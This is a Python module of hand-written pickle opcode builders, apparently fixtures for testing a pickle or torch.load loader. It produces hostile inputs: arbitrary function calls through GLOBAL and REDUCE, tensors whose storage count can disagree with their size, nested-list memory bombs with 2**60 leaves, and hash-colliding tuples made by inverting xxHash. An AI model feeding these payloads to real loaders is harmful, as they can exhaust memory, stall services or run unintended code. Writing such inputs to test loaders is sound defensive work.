"""Hand-written pickles. Each function returns opcodes that leave one value on the stack."""
import pickle

TUPLES, LISTS = b"h\x01\x86", b"](h\x01h\x01e" # opcodes that make a pair: twice the value at memo index 1


def value(anything):
    """Plain data, as pickle writes it."""
    return pickle.dumps(anything, 2)[2:-1]


def call(function, *arguments):
    """The result of a function call, by GLOBAL and REDUCE."""
    return b"c" + function.replace(" ", "\n").encode() + b"\n(" + b"".join(arguments) + b"tR"


def tensor(size, stride=None, offset=0, key="0", kind="torch FloatStorage", count=1):
    """A tensor as torch.save writes it; count is the number of elements in its storage."""
    storage = b"(" + value("storage") + b"c" + kind.replace(" ", "\n").encode() + b"\n" + value(key) + value("cpu") + value(count) + b"tQ"
    size, stride = (n if isinstance(n, bytes) else value(n) for n in (size, stride or (1,) * len(size)))
    return call("torch._utils _rebuild_tensor_v2", storage, value(offset), size, stride, value(False), call("collections OrderedDict"))


def nested(code, depth=60):
    """A list in which each value contains the previous value twice: few bytes, 2**60 leaves."""
    return b"](" + value("x" * 10) + b"".join(b"q\x01" + code for _ in range(depth)) + b"e"


def as_key(piece):
    """A dict whose key is the last value of a nested list."""
    return b"}" + piece[2:-1] + b"Ns"


def repeat(piece, code):
    """A list of 3000 values. This code makes each of them from a piece at memo index 1."""
    return b"](" + piece + b"q\x01" + code * 3000 + b"e"


def colliding_pairs(count):
    """Pairs of 64-bit integers with the same hash. Python hashes a tuple with xxHash, and every step of xxHash can be inverted."""
    mask, one, two, five = 2**64 - 1, 11400714785074694791, 14029467366897019727, 2870177450012600261
    wanted, by_one, by_two, a = (0x123456789abcdef0 - (2 ^ five ^ 3527539)) & mask, pow(one, -1, 2**64), pow(two, -1, 2**64), 0
    while count:
        a += 1
        first, last = (five + a * two) & mask, wanted * by_one & mask
        first = (first << 31 | first >> 33) * one & mask
        b = ((last >> 31 | last << 33) - first) * by_two & mask
        b -= 2**64 if b >> 63 else 0
        if abs(b) < 2**61 - 1: # such an integer is its own hash
            count -= 1
            yield value(a) + value(b) + b"\x86"
